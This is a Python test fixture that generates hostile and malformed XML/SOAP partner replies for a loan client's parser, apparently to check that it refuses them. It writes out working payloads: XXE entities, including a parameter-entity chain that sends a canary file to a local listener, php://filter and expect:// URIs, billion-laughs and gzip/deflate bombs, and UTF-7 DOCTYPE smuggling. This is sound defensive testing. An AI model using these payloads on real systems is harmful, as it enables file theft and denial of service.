"""Replies that a broken or hostile partner could send, as bytes: each with whether it may be read at all."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field

from lendrail.partners.channels.soap import ENVELOPES

SERVICES = "http://loans.example.test/2030/01/services"
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
SECRET = "canary-of-the-test"


@dataclass(frozen=True)
class Document:
    name: str
    content: bytes
    harmless: bool = False
    """May be read, and then as the sound reply and nothing else."""
    blank: bool = False
    """May be read, and then without a status."""
    kind: str = "text/xml; charset=utf-8"
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)


STATE = (
    "<ApplicationId>LS-FAKE</ApplicationId><OriginalCustomersRequestMessageId>ref</OriginalCustomersRequestMessageId>"
    "<Status>Approved</Status><StatusChangedDateTime>2030-01-02T03:04:05Z</StatusChangedDateTime>"
    f'<MissingInformation xsi:nil="true" {XSI}/>'
)
ECHO = (
    "<CustomersRequestMessageId>read</CustomersRequestMessageId><RequestMessageNumber>7</RequestMessageNumber>"
    "<ProcessedByEnvironment>Discovery</ProcessedByEnvironment>"
    "<ProcessedDateTime>2030-01-02T03:04:05Z</ProcessedDateTime>"
)


def payload(state: str = STATE, namespace: str = SERVICES, extra: str = "") -> str:
    return (
        f'<GetApplicationResponse xmlns="{namespace}">{ECHO}<Application>{state}</Application>{extra}'
        "</GetApplicationResponse>"
    )


def envelope(body: str, head: str = "", version: str = ENVELOPES["1.1"]) -> str:
    return f'{head}<s:Envelope xmlns:s="{version}"><s:Body>{body}</s:Body></s:Envelope>'


SOUND = envelope(payload())


def valued(value: str, subset: str = "", doctype: str = "<!DOCTYPE x [{}]>") -> str:
    """The sound reply with `value` as its status, behind a document type."""
    head = '<?xml version="1.0"?>' + (doctype.format(subset) if subset else "")
    return envelope(payload(STATE.replace("Approved", value)), head)


def documents(canary: str, port: int) -> Iterator[Document]:
    """`canary`: a file that nothing may open; `port`: of 127.0.0.1, where nobody may connect."""
    yield from _entities(canary, port)
    yield from _document_types()
    yield from _bombs()
    yield from _sizes()
    yield from _references(canary, port)
    yield from _encodings(canary)
    yield from _wrapped()
    yield from _values()
    yield from _faults(canary)
    yield from _other_things()


def _refused(name: str, text: str, **more: str) -> Document:
    return Document(name, text.encode(), **more)  # type: ignore[arg-type]


def _entities(canary: str, port: int) -> Iterator[Document]:
    addresses = {
        "file": f"file://{canary}",
        "path": canary,
        "http": f"http://127.0.0.1:{port}/x",
        "https": f"https://127.0.0.1:{port}/x",
        "ftp": f"ftp://127.0.0.1:{port}/x",
        "gopher": f"gopher://127.0.0.1:{port}/x",
        "jar": f"jar:http://127.0.0.1:{port}/x.jar!/x",
        "netdoc": f"netdoc:{canary}",
        "php": f"php://filter/convert.base64-encode/resource={canary}",
        "expect": "expect://id",
        "share": "//127.0.0.1/share/x",
        "data": "data:text/plain,APPROVED",
    }
    for name, address in addresses.items():
        yield _refused(f"external entity by {name}", valued("&e;", f'<!ENTITY e SYSTEM "{address}">'))
    http = addresses["http"]
    yield _refused("public external entity", valued("&e;", f'<!ENTITY e PUBLIC "-//X//EN" "{http}">'))
    yield _refused("parameter entity by http", valued("Approved", f'<!ENTITY % p SYSTEM "{http}"> %p;'))
    yield _refused("parameter entity by file", valued("Approved", f'<!ENTITY % p SYSTEM "file://{canary}"> %p;'))
    steal = f'<!ENTITY % f SYSTEM "file://{canary}"><!ENTITY % q "<!ENTITY &#37; s SYSTEM \'{http}?%f;\'>"> %q; %s;'
    yield _refused("a file carried out by a parameter entity", valued("Approved", steal))
    yield _refused("external entity in an attribute", valued('A" x="&e;', f'<!ENTITY e SYSTEM "file://{canary}">'))
    yield _refused("entity declared and not used", valued("Approved", f'<!ENTITY e SYSTEM "file://{canary}">'))
    yield _refused(
        "unparsed entity", valued("Approved", f'<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "{http}" NDATA n>')
    )


def _document_types() -> Iterator[Document]:
    body = payload()
    for name, declared in {
        "empty": "<!DOCTYPE x>",
        "of the envelope": "<!DOCTYPE s:Envelope>",
        "system file": '<!DOCTYPE x SYSTEM "file:///etc/hostname">',
        "system http": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
        "public": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd">',
        "default attribute": '<!DOCTYPE x [<!ATTLIST Status fixed CDATA "Approved">]>',
        "element": "<!DOCTYPE x [<!ELEMENT x ANY>]>",
        "in lower case": "<!doctype x>",
        "spaced": "<!DOCTYPE\n\t x\n [ ]\n >",
        "twice": "<!DOCTYPE x><!DOCTYPE y>",
        "conditional section": "<!DOCTYPE x [<![INCLUDE[<!ENTITY e 'x'>]]>]>",
    }.items():
        yield _refused(f"document type {name}", envelope(body, declared))
    yield _refused("document type after a comment", envelope(body, "<!-- x --><!DOCTYPE x>"))
    yield _refused("document type after an instruction", envelope(body, "<?x y?><!DOCTYPE x>"))
    yield _refused("document type after white space", envelope(body, "\n\n  <!DOCTYPE x>"))
    yield _refused("document type after the declaration", envelope(body, '<?xml version="1.0"?>\n<!DOCTYPE x>'))
    yield _refused("document type before the declaration", envelope(body, '<!DOCTYPE x><?xml version="1.0"?>'))
    yield _refused("document type in the body", envelope("<!DOCTYPE x>" + body))
    yield _refused("document type in a value", SOUND.replace("Approved", "<!DOCTYPE x>"))
    yield _refused("document type at the end", SOUND + "<!DOCTYPE x>")
    yield _refused("entity without document type", SOUND.replace("Approved", "<!ENTITY e 'x'>"))


def _bombs() -> Iterator[Document]:
    laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield _refused("billion laughs", valued("&l11;", laughs))
    yield _refused("billion laughs in an attribute", valued('A" x="&l11;', laughs))
    percent = '<!ENTITY % a "ha">' + "".join(f'<!ENTITY % b{n} "{"%a;" * 10}">' for n in range(9))
    yield _refused("laughs of parameter entities", valued("Approved", percent + " %b8;"))
    yield _refused("quadratic blowup", valued("&a;" * 40_000, f'<!ENTITY a "{"A" * 50_000}">'))
    yield _refused("entity of itself", valued("&a;", '<!ENTITY a "&b;"><!ENTITY b "&a;">'))
    yield _refused("entity nobody declared", SOUND.replace("Approved", "&nobody;"))
    for number in ("0", "x1", "x1F", "xD800", "xFFFE", "x110000", "9" * 5_000):
        yield _refused(f"character reference {number[:8]}", SOUND.replace("Approved", f"&#{number};"))


def _sizes() -> Iterator[Document]:
    for depth in (40, 255, 100_000):
        yield _refused(f"nested {depth} deep", SOUND.replace("Approved", "<a>" * depth + "</a>" * depth))
    yield _refused("nested and never closed", SOUND.replace("Approved", "<a>" * 15_000))
    yield _refused("nested with new namespaces", SOUND.replace("Approved", '<a xmlns="u">' * 900 + "</a>" * 900))
    yield _refused("300 000 elements", SOUND.replace("Approved", "<a/>" * 230_000))
    yield _refused("30 000 elements", SOUND.replace("Approved", "<Offer/>" * 30_000))
    yield _refused("attribute of 900 000 letters", SOUND.replace("<Status>", f'<Status x="{"A" * 900_000}">'))
    many = " ".join(f'a{n}="b"' for n in range(60_000))
    yield _refused("60 000 attributes", SOUND.replace("<Status>", f"<Status {many}>"))
    spaces = " ".join(f'xmlns:n{n}="u{n}"' for n in range(40_000))
    yield _refused("40 000 namespaces", SOUND.replace("<Status>", f"<Status {spaces}>"))
    colliding = " ".join(f'a:x{n}="" b:x{n}=""' for n in range(20_000))
    yield _refused("colliding attributes", SOUND.replace("<Status>", f'<Status xmlns:a="u" xmlns:b="u" {colliding}>'))
    yield _refused("name of 500 000 letters", SOUND.replace("Approved", f"<{'a' * 500_000}/>"))
    yield _refused("3 000 000 bytes of text", SOUND.replace("Approved", "A" * 3_000_000))
    yield _refused("3 000 000 blanks", SOUND + " " * 3_000_000)
    yield _refused("400 000 comments", SOUND.replace("Approved", "<!---->" * 130_000))
    yield _refused("comment without an end", SOUND.replace("Approved", "<!-- " + "-" * 900_000))
    yield _refused("CDATA without an end", SOUND.replace("Approved", "<![CDATA[" + "]" * 900_000))
    yield _refused("instruction without an end", SOUND.replace("Approved", "<?" + "?" * 900_000))


def _references(canary: str, port: int) -> Iterator[Document]:
    http, location = f"http://127.0.0.1:{port}/x", "xsi:schemaLocation"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'
    yield Document("XInclude in a value", SOUND.replace("Approved", include).encode(), blank=True)
    yield Document("XInclude beside values", SOUND.replace("<Status>", include + "<Status>").encode(), True)
    style = f'<?xml-stylesheet type="text/xsl" href="{http}"?>'
    yield Document("style sheet", (style + SOUND).encode(), True)
    yield Document("schema location", SOUND.replace("<Status>", f'<Status {XSI} {location}="u {http}">').encode(), True)
    there = f'<Status {XSI} xsi:noNamespaceSchemaLocation="file://{canary}">'
    yield Document("schema without namespace", SOUND.replace("<Status>", there).encode(), True)
    yield Document("base address", SOUND.replace("<Status>", f'<Status xml:base="{http}">').encode(), True)
    xop = f'<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{http}"/>'
    yield Document("XOP include", SOUND.replace("Approved", xop).encode(), blank=True)
    mime = f"--b\r\nContent-Type: application/xop+xml\r\n\r\n{SOUND}\r\n--b--"
    yield _refused("MIME parts", mime, kind='multipart/related; boundary="b"')
    yield _refused("MIME parts as XML", mime)
    twice = '<a id="1"><b href="#1"/><b href="#1"/></a>'
    yield _refused("element that refers to itself", envelope(payload() + twice))
    yield Document("href to itself", SOUND.replace("<Application>", '<Application id="1" href="#1">').encode(), True)


def _encodings(canary: str) -> Iterator[Document]:
    declared = '<?xml version="1.0" encoding="{}"?>'
    attack = valued("&e;", f'<!ENTITY e SYSTEM "file://{canary}">').partition("?>")[2]
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "cp500", "utf-7"):
        text = (declared.format(name) + attack).encode(name)
        yield Document(f"attack in {name}", text)
        yield Document(f"attack in {name}, said so", text, kind=f"text/xml; charset={name}")
        yield Document(f"sound in {name}", (declared.format(name) + SOUND).encode(name))
    for name in ("utf-7", "utf-16", "iso-8859-1", "cp037", "shift_jis", "x-unknown", "utf-8\0", ""):
        yield _refused(f"declared as {name!r} and is not", declared.format(name) + SOUND)
    hidden = declared.format("utf-7") + "+ADwAIQ-DOCTYPE x+AD4-" + SOUND
    yield _refused("document type in UTF-7", hidden)
    yield _refused("document type in UTF-7 by content type", hidden, kind="text/xml; charset=utf-7")
    sound = SOUND.encode()
    yield Document("mark of UTF-8", b"\xef\xbb\xbf" + sound, True)
    yield Document("two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + sound)
    yield Document("mark of UTF-16 before UTF-8", b"\xff\xfe" + sound)
    yield Document(
        "mark before the declaration in UTF-16", b"\xef\xbb\xbf" + (declared.format("utf-16") + SOUND).encode()
    )
    yield Document("overlong sign", sound.replace(b"<s:Body>", b"\xc0\xbcs:Body>"))
    yield Document("not UTF-8", sound.replace(b"Approved", b"\xff\xfe\xfd"))
    yield Document("surrogates in UTF-8", sound.replace(b"Approved", b"\xed\xa0\x80\xed\xb0\x80"))
    yield Document("zero bytes between", sound.replace(b"Approved", b"App\0roved"))
    yield Document("zero byte at the end", sound + b"\0<!DOCTYPE x>")
    yield Document("control character", sound.replace(b"Approved", b"App\x08roved"))
    yield Document("Latin-1 by content type", sound, kind="text/xml; charset=iso-8859-1")
    yield Document("declared twice", (declared.format("utf-8") * 2 + SOUND).encode())
    yield Document("XML 1.1", ('<?xml version="1.1"?>' + SOUND.replace("Approved", "&#1;")).encode())


def _wrapped() -> Iterator[Document]:
    declined = payload(STATE.replace("Approved", "Declined"))
    space = ENVELOPES["1.1"]
    yield _refused("two bodies", SOUND.replace("</s:Body>", f"</s:Body><s:Body>{declined}</s:Body>"))
    yield _refused("body before the header", SOUND.replace("</s:Body>", "</s:Body><s:Header/>"))
    yield _refused("two headers", SOUND.replace("<s:Body>", "<s:Header/><s:Header/><s:Body>"))
    yield _refused("body in a wrapper", SOUND.replace("<s:Body>", "<w><s:Body>").replace("</s:Body>", "</s:Body></w>"))
    yield _refused("two answers", envelope(payload() + declined))
    yield _refused("answer and fault", envelope(payload() + "<s:Fault><faultcode>s:Client</faultcode></s:Fault>"))
    yield _refused("no answer", envelope(""))
    yield _refused("text for an answer", envelope("Approved"))
    yield _refused("envelope in the body", envelope(SOUND))
    yield _refused("envelope around", f"<w>{SOUND}</w>")
    yield _refused("two envelopes", SOUND + SOUND)
    yield _refused("something after the envelope", SOUND + "<x/>")
    other = SOUND.replace(
        "<s:Body>", f'<s:Header><w><s:Body xmlns:s="{space}">{declined}</s:Body></w></s:Header><s:Body>'
    )
    yield Document("a body in the header", other.encode(), True)
    yield _refused("status twice", SOUND.replace("</Status>", "</Status><Status>Declined</Status>"))
    yield _refused("application twice", envelope(payload(extra=f"<Application>{STATE}</Application>")))
    yield _refused("namespace with a slash", envelope(payload(namespace=SERVICES + "/")))
    yield _refused("namespace in capitals", envelope(payload(namespace=SERVICES.upper())))
    yield _refused("no namespace", envelope(payload(namespace="")))
    yield _refused("envelope of a foreign namespace", SOUND.replace(space, space + "x"))
    yield _refused("envelope without namespace", f"<Envelope><Body>{payload()}</Body></Envelope>")
    yield _refused("answer of another operation", SOUND.replace("GetApplicationResponse", "PingResponse"))
    yield _refused("the request itself", SOUND.replace("GetApplicationResponse", "GetApplication"))


def _values() -> Iterator[Document]:
    yield Document("comment in a value", SOUND.replace("Approved", "Appr<!-- x -->oved").encode(), True)
    yield Document("instruction in a value", SOUND.replace("Approved", "Appr<?x y?>oved").encode(), True)
    yield Document("CDATA in a value", SOUND.replace("Approved", "Appr<![CDATA[ove]]>d").encode(), True)
    yield _refused("document type in CDATA", SOUND.replace("Approved", "<![CDATA[<!DOCTYPE x>]]>"))
    yield _refused("text beside elements", SOUND.replace("<Status>", "Declined<Status>"))
    nested = SOUND.replace("Approved", "<Status>Approved</Status>")
    yield Document("element in a value", nested.encode(), blank=True)
    yield _refused("nil with a value", SOUND.replace("<Status>", f'<Status xsi:nil="true" {XSI}>'))
    yield _refused("nil with elements", SOUND.replace("<Application>", f'<Application xsi:nil="1" {XSI}>'))
    for name in ("xs:int", "xs:base64Binary", "xs:anyType", "t:Application", "nobody:x", ":"):
        known = f'xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:t="{SERVICES}"'
        retyped = f'<Status {XSI} {known} xsi:type="{name}">'
        yield _refused(f"value retyped as {name}", SOUND.replace("<Status>", retyped))
    yield _refused("attribute twice", SOUND.replace("<Status>", '<Status a="1" a="2">'))
    yield _refused("prefix nobody bound", SOUND.replace("<Status>", "<q:Status>"))
    for name, offer in {
        "not a number": "NaN",
        "endless": "Infinity",
        "a huge exponent": "1E+999999999",
        "a tiny exponent": "1E-999999999",
        "a snake": "1_7",
        "of another script": "\u0661\u0667",
        "200 000 digits": "9" * 200_000,
    }.items():
        told = f"<Offers><Offer><OfferId>1</OfferId><Amount>{offer}</Amount></Offer></Offers>"
        yield Document(f"amount that is {name}", envelope(payload(STATE + told)).encode())
    for name, time in {"no time": "x", "year 0": "0000-01-01T00:00:00Z", "year 99999": "99999-01-01T00:00:00Z"}.items():
        yield Document(f"time that is {name}", SOUND.replace("2030-01-02T03:04:05Z", time).encode(), True)


def _faults(canary: str) -> Iterator[Document]:
    detail = '<f:ValidationFault xmlns:f="http://loans.example.test/2030/01/faults">{}</f:ValidationFault>'
    code = "<faultcode>s:Client</faultcode><faultstring>no</faultstring>"
    yield _refused("fault without code", envelope("<s:Fault/>"))
    yield _refused("fault with a strange code", envelope("<s:Fault><faultcode>&lt;x&gt;</faultcode></s:Fault>"))
    empty = f"<s:Fault>{code}<detail>{detail.format('text')}</detail></s:Fault>"
    yield Document("fault with text for elements", envelope(empty).encode(), blank=True, status=500)
    yield Document("fault with two details", envelope(empty.replace("<detail>", "<detail><x/>")).encode(), blank=True)
    entity = valued("x", f'<!ENTITY e SYSTEM "file://{canary}">').replace("<s:Body>", "<s:Body><s:Fault>&e;</s:Fault>")
    yield Document("fault with an entity", entity.encode(), status=500)
    yield Document("answer with status 500", SOUND.encode(), status=500)
    yield Document("answer with status 302", SOUND.encode(), status=302, headers={"location": "http://127.0.0.1:9/"})


def _other_things() -> Iterator[Document]:
    sound = SOUND.encode()
    yield Document("nothing", b"")
    yield Document("blanks", b"  \n ")
    yield Document("only a mark", b"\xef\xbb\xbf")
    yield Document("HTML", b"<!DOCTYPE html><html><body><h1>Maintenance</h1></body></html>", kind="text/html")
    yield Document("HTML as XML", b"<html><body><p>Maintenance</p></body></html>")
    yield Document("sound, called HTML", sound, kind="text/html")
    yield Document("sound, called JSON", sound, kind="application/json")
    yield Document("sound, called anything", sound, kind="application/octet-stream")
    yield Document("JSON", b'{"Status": "Approved"}')
    yield Document("gzip", gzip.compress(sound))
    yield Document("gzip, said so", gzip.compress(sound), headers={"content-encoding": "gzip"})
    yield Document("gzip bomb", gzip.compress(b"<a>" * 2_000_000, 9))
    yield Document("deflate bomb", zlib.compress(b" " * 10_000_000, 9), headers={"content-encoding": "deflate"})
    yield Document("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100)
    yield Document("any bytes", bytes(range(256)) * 1_000)
